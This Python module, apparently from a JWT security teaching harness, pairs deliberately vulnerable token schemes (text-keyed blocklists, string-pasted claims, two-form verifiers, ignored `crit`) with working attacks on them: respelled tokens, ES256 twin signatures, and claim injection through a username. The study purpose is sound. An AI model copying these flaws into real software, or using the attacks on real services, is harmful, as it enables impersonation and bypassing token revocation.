"""One credential that two readers read differently.

A token has several spellings: with padding, with the unused bits of its
last character set, with a character that a decoder skips, and, for ES256,
with a second signature that is as good.  A blocklist that knows a token
by its text, or by a hash of it, knows only one of them.  A list of `jti`
does not care how the token is spelled.

An issuer that pastes JSON together lets the user write claims.  A
verifier that checks one form of a token and reads another acts on what
nobody signed; so does one that passes over what the header calls
critical.
Source: RFC 7515 sections 2, 4.1.11 and 7, RFC 4648 section 3, CWE-116,
CWE-436, OWASP JSON Web Token Cheat Sheet.
"""

import json
from base64 import urlsafe_b64decode
from collections.abc import Callable
from dataclasses import replace
from functools import partial
from typing import Any

import jwt

from demo.attacks.after_log_out import replay_after_log_out
from demo.attacks.base import Attack, Attacker, with_token
from demo.attacks.forging import alices_claims, header, jwt_scheme, unsigned
from demo.attacks.turning import Flip, overriding
from demo.contenders import contender
from demo.errors import BadSignature, Revoked
from demo.harness import PASSWORD, Client, NotApplicable
from demo.harness.tokens import part
from demo.schemes import JWT, Blocklist, Identity
from demo.schemes.base import digest, encoded, require_text

# The blocklist that misses them


class TextBlocklist(Blocklist):
    """Overrides `one_spelling`, `verify` and `revoke`: an entry is named
    by the hash of the token's text, not by its `jti`, and every spelling
    that the library takes is good."""

    def one_spelling(self, token: str) -> str:
        return token

    def verify(self, token: str) -> Identity:
        identity = JWT.verify(self, token)
        if self.store.get(self.entry(digest(token))) is not None:
            raise Revoked("on the blocklist")
        return identity

    def revoke(self, token: str) -> None:
        identity = JWT.verify(self, token)
        self.block(digest(token), identity.expires_at)


class LooseTextBlocklist(TextBlocklist):
    """Overrides `one_spelling`: it decodes a signature as Python's base64
    does, which drops every character that it does not know."""

    def one_spelling(self, token: str) -> str:
        signed, _, signature = require_text(token).rpartition(".")
        raw = urlsafe_b64decode(signature + "==")
        return f"{signed}.{encoded(raw)}"


NAMES_BY_TEXT = Flip(
    "blocklist entry",
    "named by the token's text",
    overriding(Blocklist, TextBlocklist),
    tempting="example: OWASP JSON Web Token Cheat Sheet for Java (older)",
)
NAMES_BY_LOOSE_TEXT = Flip(
    "blocklist entry",
    "named by the token's text, loosely decoded",
    overriding(Blocklist, LooseTextBlocklist),
)

# The spellings

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

P256_ORDER = int(
    "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16
)
"""Number of points on the curve of ES256.  Source: NIST SP 800-186
section 3.2.1.3."""


def padded(token: str) -> str:
    """The same bytes, with the padding that RFC 7515 leaves out."""
    signature = token.rpartition(".")[2]
    return token + "=" * (-len(signature) % 4)


def twin(token: str) -> str:
    """The other ECDSA signature of the same text: (r, n - s)."""
    signed, _, signature = token.rpartition(".")
    raw = urlsafe_b64decode(signature + "==")
    r, s = raw[:32], int.from_bytes(raw[32:])
    return f"{signed}.{encoded(r + (P256_ORDER - s).to_bytes(32))}"


def next_last(token: str) -> str:
    """The last character's lowest bit stands for nothing: set it."""
    return token[:-1] + ALPHABET[ALPHABET.index(token[-1]) | 1]


def with_junk(token: str) -> str:
    """A character that is in no base64, for a decoder that skips it."""
    return token[:-4] + "!" + token[-4:]


def respelled(attacker: Attacker, spell: Callable[[str], str]) -> Client:
    """Alice logs out; her token comes back in another spelling.  Raises
    NotApplicable when the copy works as it is: no list is bypassed."""
    jwt_scheme(attacker)
    copy = replay_after_log_out(attacker)
    if copy.me() == "alice":
        raise NotApplicable("the copy works as it is")
    copy.replace_credential(spell(copy.credential()))
    return copy


def twin_of_es256(attacker: Attacker) -> Client:
    """Alice logs out; her token comes back with the other valid signature,
    in which s is n - s.  Raises NotApplicable when the signature is not by
    ES256."""
    if attacker.service.contender.algorithm != "ES256":
        raise NotApplicable("the signature is not by ES256")
    return respelled(attacker, twin)


respelled_token = partial(
    Attack,
    family="parsing",
    fixed=contender("JWT + blocklist"),
    chapter="keep-a-blocklist",
)
"""A token that is on the blocklist, in another spelling."""

PADDED_TOKEN = respelled_token(
    id="padded-token",
    name="a blocked token, padded",
    claim="A blocked token with one `=` more at its end still pays.",
    source="RFC 7515 section 2, OWASP JSON Web Token Cheat Sheet",
    forge=partial(respelled, spell=padded),
    flip=NAMES_BY_TEXT,
)
TWIN_SIGNATURE = respelled_token(
    id="twin-signature",
    name="a blocked token, with its twin signature",
    claim="A blocked ES256 token enters with its other valid signature.",
    source="NIST FIPS 186-5 section 6.4.2, OWASP JSON Web Token Cheat Sheet",
    forge=twin_of_es256,
    fixed=replace(
        contender("JWT + blocklist"),
        name="JWT ES256 + blocklist",
        algorithm="ES256",
    ),
    flip=NAMES_BY_TEXT,
)
UNUSED_BITS = respelled_token(
    id="unused-bits",
    name="a respelled token, with its unused bits set",
    claim="A blocked token with another last character still pays.",
    source="RFC 4648 section 3.5, OWASP JSON Web Token Cheat Sheet",
    forge=partial(respelled, spell=next_last),
    flip=NAMES_BY_LOOSE_TEXT,
)
JUNK_CHARACTER = respelled_token(
    id="junk-character",
    name="a respelled token, with a character to be skipped",
    claim="A blocked token with a character that is skipped still pays.",
    source="RFC 4648 section 3.3, CVE-2026-102269",
    forge=partial(respelled, spell=with_junk),
    flip=NAMES_BY_LOOSE_TEXT,
    releases=("pyjwt_junk",),
)

# An issuer that pastes


def pasted(claims: dict[str, Any]) -> bytes:
    """JSON, as long as no text has a quote in it."""
    texts = (
        f'"{name}":"{one}"'
        if isinstance(one, str)
        else f'"{name}":{json.dumps(one)}'
        for name, one in claims.items()
    )
    return f"{{{','.join(texts)}}}".encode()


class PastesToken(JWT):
    """Overrides `sign`: it pastes the payload together."""

    def sign(self, claims: dict[str, Any]) -> str:
        return jwt.PyJWS().encode(
            pasted(claims),
            self.key.signing,
            algorithm=self.key.algorithm,
            headers={"typ": self.typ},
        )


PASTES_TOKEN = Flip("JWT's payload", "pasted", overriding(JWT, PastesToken))


def sign_up(attacker: Attacker) -> Client:
    """Mallory signs up under a name that closes its own quotes and says
    `sub` once more.  Of two, most parsers take the last."""
    name = 'mallory","sub":"alice'
    attacker.service.users.add(name, PASSWORD)
    return attacker.service.signed_in(name)


PASTED_CLAIM = Attack(
    id="pasted-claim",
    name="a name that writes into the JWT",
    claim="A user's name, pasted into a JWT, signs her in as Alice.",
    family="parsing",
    source="CWE-116, RFC 7519 section 4",
    forge=sign_up,
    fixed=contender("JWT HS256"),
    flip=PASTES_TOKEN,
)

# A verifier that checks one form and reads the other


def require_signature(scheme: JWT, signed: str, signature: str) -> None:
    """The bare check, by the scheme's own key.  Raises BadSignature."""
    family = jwt.get_algorithm_by_name(scheme.key.algorithm)
    raw = jwt.utils.base64url_decode(signature)
    if not family.verify(signed.encode(), scheme.key.verifying, raw):
        raise BadSignature("another signature")


class TakesBothForms(JWT):
    """Overrides `decode`: it checks a token in JSON form, and then reads
    the claims as if the token were in compact form."""

    def decode(self, token: str) -> dict[str, Any]:
        if not token.startswith("{"):
            return super().decode(token)
        form = json.loads(token)
        signed = f"{form['protected']}.{form['payload']}"
        require_signature(self, signed, form["signature"])
        payload = token.split(".")[1]
        return unsigned(self, f"{form['protected']}.{payload}.")


TAKES_BOTH_FORMS = Flip(
    "form", "JSON is checked, compact is read", overriding(JWT, TakesBothForms)
)


def in_both_forms(attacker: Attacker) -> Client:
    """Mallory's own signature, in JSON form.  Split at its dots, Alice's
    claims are the second part."""
    claims = alices_claims(attacker)
    first, payload, last = attacker.me.credential().split(".")
    form = {
        f"{first}.{part(claims)}.": "",
        "protected": first,
        "payload": payload,
        "signature": last,
    }
    return with_token(attacker, json.dumps(form, separators=(",", ":")))


BOTH_FORMS = Attack(
    id="both-forms",
    name="two forms in one token",
    claim="A token that is checked as JSON and read as compact pays as Alice.",
    family="parsing",
    source="CWE-436, RFC 7515 section 7, CVE-2022-39227",
    forge=in_both_forms,
    fixed=contender("JWT HS256"),
    flip=TAKES_BOTH_FORMS,
    releases=("python_jwt_two_readers",),
)

# A verifier that does not know `crit`


class IgnoresCritical(JWT):
    """Overrides `decode`: it checks the signature, and passes over what
    the header calls critical."""

    def decode(self, token: str) -> dict[str, Any]:
        signed, _, signature = self.one_spelling(token).rpartition(".")
        require_signature(self, signed, signature)
        first, payload = signed.split(".")
        return unsigned(self, f"{without_crit(first)}.{payload}.")


def without_crit(first: str) -> str:
    """The same header, as a library reads it that knows no `crit`."""
    said = json.loads(jwt.utils.base64url_decode(first))
    said.pop("crit", None)
    return part(said)


IGNORES_CRITICAL = Flip("crit", "ignored", overriding(JWT, IgnoresCritical))

LIMIT = "https://bank.test/read-only"
"""An extension of the header that newer services of the bank know."""


def limited_by_the_bank(attacker: Attacker) -> Client:
    """Alice lets Mallory's budget planner see her balance.  The bank
    signs a token for it, and says in the header that a verifier which
    does not know the limit must not take it."""
    claims = alices_claims(attacker)
    key = attacker.service.key(attacker.service.contender.algorithm)
    about = header(attacker, alg=key.algorithm, crit=[LIMIT], **{LIMIT: True})
    signed = f"{part(about)}.{part(claims)}"
    family = jwt.get_algorithm_by_name(key.algorithm)
    signature = family.sign(signed.encode(), key.signing)
    return with_token(attacker, f"{signed}.{encoded(signature)}")


UNKNOWN_CRIT = Attack(
    id="unknown-crit",
    name="a critical limit, ignored",
    claim="Where `crit` is ignored, a token that is good for reading pays.",
    family="parsing",
    source="RFC 7515 section 4.1.11, CWE-436",
    forge=limited_by_the_bank,
    fixed=contender("JWT HS256"),
    flip=IGNORES_CRITICAL,
    releases=("pyjwt_crit", "authlib_crit", "fast_jwt_crit"),
)

ATTACKS = (
    PADDED_TOKEN,
    TWIN_SIGNATURE,
    UNUSED_BITS,
    JUNK_CHARACTER,
    PASTED_CLAIM,
    BOTH_FORMS,
    UNKNOWN_CRIT,
)
